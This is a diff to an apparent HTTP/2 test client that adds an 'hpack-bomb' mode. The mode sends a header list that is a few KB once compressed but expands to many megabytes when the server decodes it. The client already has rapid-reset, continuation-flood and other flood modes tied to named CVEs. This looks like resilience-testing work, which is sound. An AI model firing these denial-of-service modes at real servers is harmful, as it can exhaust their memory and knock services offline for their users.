@@ -18,6 +18,8 @@ Usage: h2_client.py [--tls] HOST PORT MODE [ARGS]
   rapid-reset COUNT       COUNT streams opened and reset at once (CVE-2023-44487)
   continuation-flood      one HEADERS without END_HEADERS, then endless CONTINUATION frames (CVE-2024-27316)
   big-headers BYTES       one request whose header list is BYTES long
+  hpack-bomb COUNT        one request repeating a 4 KB field COUNT times: a few KB encoded (HPACK's
+                          dynamic table), COUNT x 4 KB decoded
   settings-flood COUNT    COUNT SETTINGS frames
   ping-flood COUNT        COUNT PING frames
   websocket PATH TEXT...  a WebSocket over HTTP/2 (RFC 8441 extended CONNECT): each TEXT sent as a
@@ -341,6 +343,17 @@ def main():
         conn.send_headers(1, headers, end_stream=True)
         reader.open.add(1)
         sock.sendall(conn.data_to_send())
+        sock.settimeout(10)
+        reader.run(until=lambda: not reader.open)
+    elif mode == "hpack-bomb":
+        conn = new_connection(sock)
+        reader = Reader(sock, conn)
+        headers = request_headers("/") + [("x-bomb", "v" * 4000)] * int(rest[0])
+        conn.send_headers(1, headers, end_stream=True)
+        encoded = conn.data_to_send()
+        say("encoded", len(encoded))
+        reader.open.add(1)
+        sock.sendall(encoded)
         sock.settimeout(10)
         reader.run(until=lambda: not reader.open)
     elif mode in ("settings-flood", "ping-flood"):
